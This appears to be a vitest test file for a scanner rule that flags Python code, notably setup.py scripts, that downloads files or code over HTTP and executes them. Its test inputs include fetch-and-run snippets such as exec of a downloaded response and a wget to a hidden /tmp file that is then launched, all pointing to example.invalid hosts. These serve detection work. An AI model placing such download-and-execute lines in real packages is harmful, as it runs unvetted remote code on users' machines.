import { describe, expect, it } from 'vitest';
import { heuristicFindings } from './test-helpers.js';

const RULE = 'PKG-DL-001';

describe('PKG-DL-001', () => {
  it('names the HTTP source of executed code and rates it critical', async () => {
    const found = await heuristicFindings(
      'import requests\nr = requests.get(URL)\nexec(r.text)\n',
      undefined,
      RULE,
    );
    expect(found).toEqual([
      expect.objectContaining({
        line: 3,
        severity: 'critical',
        message: expect.stringContaining('requests.get') as string,
      }),
    ]);
  });

  it('follows a file from its download to the command that runs it, by path value', async () => {
    const source = [
      'import os, subprocess, urllib.request',
      'P = "/tmp/" + "agent"',
      'urllib.request.urlretrieve("https://example.invalid/a", P)',
      'subprocess.call("chmod +x /tmp/agent && /tmp/agent", shell=True)',
    ].join('\n');
    expect((await heuristicFindings(source, 'setup.py', RULE)).map((f) => f.line)).toEqual([4]);
  });

  it('takes the output file of curl and wget commands as downloaded', async () => {
    const source = [
      'import os, subprocess',
      'subprocess.run(["wget", "-q", "-O", "/tmp/.svc", "https://example.invalid/svc"])',
      'os.system("/tmp/.svc &")',
    ].join('\n');
    expect(await heuristicFindings(source, 'setup.py', RULE)).toEqual([
      expect.objectContaining({
        line: 3,
        message: expect.stringContaining('"/tmp/.svc", downloaded at line 2') as string,
      }),
    ]);
  });

  it('rates a binary fetched and run by a library at medium confidence, by setup.py at the rule default', async () => {
    const source = [
      'import subprocess, urllib.request',
      'urllib.request.urlretrieve("https://example.invalid/tool", "tool.bin")',
      'subprocess.run(["./tool.bin", "--version"])',
    ].join('\n');
    expect(await heuristicFindings(source, 'pkg/profiler.py', RULE)).toEqual([
      expect.objectContaining({ line: 3, confidence: 'medium' }),
    ]);
    expect(await heuristicFindings(source, 'setup.py', RULE)).toEqual([
      expect.not.objectContaining({ confidence: 'medium' }),
    ]);
  });

  it('leaves downloaded data, plain requests and pinned pip installs alone', async () => {
    const source = [
      'import requests, subprocess, sys',
      'data = requests.post("https://api.example.com/v1", json={"a": 1}).json()',
      'with open("out.json", "wb") as fh:',
      '    fh.write(requests.get("https://example.com/x.json").content)',
      'subprocess.run(["python", "-m", "json.tool", "out.json"])',
      'subprocess.check_call([sys.executable, "-m", "pip", "install", "numpy==1.26.4"])',
    ].join('\n');
    expect(await heuristicFindings(source, 'setup.py', RULE)).toEqual([]);
  });
});
